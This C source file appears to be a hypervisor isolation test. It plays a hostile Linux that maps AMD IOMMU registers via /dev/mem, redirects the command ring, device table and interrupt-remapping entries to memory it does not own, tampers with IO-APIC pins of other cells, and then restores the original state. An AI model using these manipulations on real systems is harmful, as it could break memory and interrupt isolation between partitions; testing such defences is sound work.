// SPDX-License-Identifier: GPL-2.0-only
/*
 * A hostile Linux at the registers of its AMD IOMMU (boot with iomem=relaxed), which it then hands back as it
 * was. What each attempt led to is printed, a line each.
 *
 *   amdvi-attack UNIT APIC-ID ADDRESS BDF
 *
 * UNIT: address of the registers; APIC-ID: of a CPU that is not Linux's; ADDRESS: memory that is not
 * Linux's; BDF: a function of bus 0, device 0 to 15, that Linux then wants to translate, as a number.
 */
#include <fcntl.h>
#include <inttypes.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include "own-page.h"

#define REGISTERS 0x4000
#define DEVTAB 0x00
#define COMMANDS 0x08
#define CONTROL 0x18
#define HEAD 0x2000
#define TAIL 0x2008
#define STATUS 0x2020
#define RUNS 0x10
#define WIDE (1ull << 17) /* of CONTROL: entries of interrupt tables have 128 bits */
#define RING (8ull << 56) /* of 256 commands, a page */
#define WAIT_STORE (1ull << 60 | 1)
#define FLUSH_DEVICE (2ull << 60)
#define FLUSH_ALL (8ull << 60)
#define DTE_IDENTITY (3ull << 61 | 3)
#define DTE_TRANSLATED (DTE_IDENTITY | 3ull << 9)
#define DTE_INTERRUPTS (2ull << 60 | 8 << 1 | 1)
#define INDEX 200
#define IOAPIC 0xfec00000
#define IOAPIC_BDF 0xa0 /* as which QEMU's sends */
#define IOAPIC_TAKEN "<0>the IO-APIC has no table\n"
#define IOREGSEL 0x00
#define IOWIN 0x10
#define ENTRY(pin) (0x10 + 2 * (pin))
#define MASKED 0x10000u
#define FREE_PIN 18

static volatile uint8_t *regs;
static uint64_t ring_hpa, table_hpa, irtes_hpa;
static volatile uint64_t *ring, *table;
static volatile uint32_t *irtes; /* 256 of either size in a page */
static unsigned int tail;

static uint64_t get(unsigned int offset)
{
	return *(volatile uint64_t *)(regs + offset);
}

static void set(unsigned int offset, uint64_t value)
{
	*(volatile uint64_t *)(regs + offset) = value;
}

static void say(const char *what)
{
	printf("%s: %s, head %" PRIu64 "\n", what, get(STATUS) & RUNS ? "runs" : "stopped",
	       get(HEAD));
}

static void command(const char *what, uint64_t low, uint64_t high)
{
	ring[tail / 8] = low;
	ring[tail / 8 + 1] = high;
	tail += 16;
	set(TAIL, tail);
	say(what);
}

static void attack_ring(uint64_t address, uint64_t control)
{
	set(COMMANDS, ring_hpa | RING);
	command("garbage", 0xfull << 60, 0);
	ring[0] = ring_hpa + 2048 + WAIT_STORE;
	ring[1] = 7;
	set(CONTROL, control);
	say("mended");
	printf("status %" PRIu64 "\n", ring[256]);
	command("status elsewhere", address + WAIT_STORE, 0xbad);
}

static void attack_tables(uint64_t address, uint32_t apic_id, unsigned int bdf)
{
	volatile uint64_t *dte = table + 4 * bdf;

	if (get(CONTROL) & WIDE) {
		irtes[4 * INDEX] = apic_id << 8 | 1;
		irtes[4 * INDEX + 2] = 0x41;
	} else {
		irtes[INDEX] = 0x41 << 16 | apic_id << 8 | 1;
	}
	dte[2] = irtes_hpa | DTE_INTERRUPTS;
	dte[0] = DTE_IDENTITY;
	set(DEVTAB, table_hpa);
	command("interrupt for a cell", FLUSH_DEVICE | bdf, 0);
	dte[2] = address | DTE_INTERRUPTS;
	command("interrupt table elsewhere", FLUSH_DEVICE | bdf, 0);
	dte[2] = 0;
	dte[0] = address | DTE_TRANSLATED;
	command("translated", FLUSH_DEVICE | bdf, 0);
	set(DEVTAB, address);
	command("device table elsewhere", FLUSH_ALL, 0);
}

/* The table of the IO-APIC has cells' pins as well: it is not Linux's to take away. The second page of the device table
 * is ours here. */
static void attack_ioapic(uint64_t address, uint64_t devtab)
{
	volatile uint64_t *dte = table + (32 * IOAPIC_BDF - PAGE) / 8;
	int console = open("/dev/kmsg", O_WRONLY);

	set(DEVTAB, (table_hpa - PAGE) | 1);
	command("IO-APIC without a table", FLUSH_DEVICE | IOAPIC_BDF, 0);
	dte[0] = address | DTE_TRANSLATED;
	command("IO-APIC translated", FLUSH_DEVICE | IOAPIC_BDF, 0);
	if (console < 0 || write(console, IOAPIC_TAKEN, strlen(IOAPIC_TAKEN)) < 0)
		die("/dev/kmsg");
	sleep(3); /* for somebody to see whether interrupts arrive */
	set(DEVTAB, devtab);
	command("IO-APIC of Linux", FLUSH_DEVICE | IOAPIC_BDF, 0);
}

static void attack_places(uint64_t address, uint64_t control)
{
	set(COMMANDS, address | RING);
	set(TAIL, 16);
	say("ring elsewhere");
	set(TAIL, 0);
	set(CONTROL, control);
	set(COMMANDS, ring_hpa | RING);
	set(TAIL, 0x7fff0);
	say("tail beyond");
	set(TAIL, 0);
}

static uint32_t pin_entry(volatile uint32_t *ioapic, uint32_t low)
{
	ioapic[IOREGSEL / 4] = ENTRY(FREE_PIN);
	ioapic[IOWIN / 4] = low;
	return ioapic[IOWIN / 4];
}

/* An entry's vector and delivery mode are an index in the IO-APIC's table: those of cells are behind Linux's. */
static void attack_pins(int fd)
{
	volatile uint32_t *ioapic =
		mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IOAPIC);

	if (ioapic == MAP_FAILED)
		die("the IO-APIC");
	printf("pin for a cell: %s\n", pin_entry(ioapic, 0x1ff) & MASKED ? "masked" : "open");
	printf("pin of Linux's: %s\n", pin_entry(ioapic, FREE_PIN) & MASKED ? "masked" : "open");
	pin_entry(ioapic, MASKED);
}

int main(int argc, char **argv)
{
	uint64_t address, commands, devtab, control, linux_tail;
	int fd = open("/dev/mem", O_RDWR | O_SYNC);

	if (argc != 5 || fd < 0)
		die("/dev/mem");
	regs = mmap(NULL, REGISTERS, PROT_READ | PROT_WRITE, MAP_SHARED, fd,
		    strtol(argv[1], NULL, 0));
	if (regs == MAP_FAILED)
		die("the unit's registers");
	address = strtoull(argv[3], NULL, 0);
	ring = own_page(&ring_hpa);
	table = own_page(&table_hpa);
	irtes = own_page(&irtes_hpa);
	commands = get(COMMANDS);
	devtab = get(DEVTAB);
	control = get(CONTROL);
	linux_tail = get(TAIL);
	attack_ring(address, control);
	attack_tables(address, (uint32_t)strtoul(argv[2], NULL, 0),
		      (unsigned int)strtoul(argv[4], NULL, 0));
	attack_ioapic(address, devtab);
	attack_places(address, control);
	attack_pins(fd);
	set(DEVTAB, devtab);
	set(COMMANDS, commands);
	set(HEAD, linux_tail);
	set(TAIL, linux_tail);
	say("Linux's");
	return 0;
}
